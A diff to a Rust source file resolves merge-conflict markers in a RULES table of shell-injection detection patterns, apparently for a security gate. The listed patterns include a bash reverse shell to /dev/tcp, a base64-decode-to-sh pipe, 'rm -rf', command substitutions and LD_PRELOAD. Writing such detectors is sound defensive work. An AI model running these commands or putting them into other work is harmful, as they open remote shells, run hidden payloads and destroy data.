@@ -58,10 +58,6 @@ pub(super) const RULES: &[Rule] = &[
             "%systemroot%",
             "%comspec%",
             "/???/",
-<<<<<<< HEAD
-            "2>&1",
-=======
->>>>>>> 0ac0003 (Prove the gate against judging without it, and add everyday values)
             "ld_preload=",
             "$(cat ",
             "$(<",
@@ -83,10 +79,6 @@ pub(super) const RULES: &[Rule] = &[
             "cat${IFS}/x",
             "bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
             "cmd.exe /c dir",
-<<<<<<< HEAD
-            "; /bin/sh",
-=======
->>>>>>> 0ac0003 (Prove the gate against judging without it, and add everyday values)
             "x|base64 -d|sh",
             "/???/??t",
         ],
@@ -103,10 +95,7 @@ pub(super) const RULES: &[Rule] = &[
         severity: Severity::High,
         carriers: Carriers::ALL,
         any: &[
-<<<<<<< HEAD
-=======
             "2>&1",
->>>>>>> 0ac0003 (Prove the gate against judging without it, and add everyday values)
             "~bash -i",
             "~sh -i",
             "/bin/sh~",
@@ -116,11 +105,7 @@ pub(super) const RULES: &[Rule] = &[
             "/bin/ksh~",
             ">/dev/null",
             "> /dev/null",
-<<<<<<< HEAD
-            "rm -rf ",
-=======
             "~rm -rf~",
->>>>>>> 0ac0003 (Prove the gate against judging without it, and add everyday values)
             "/sbin/ifconfig",
             "#!/bin/",
             "-exec ",
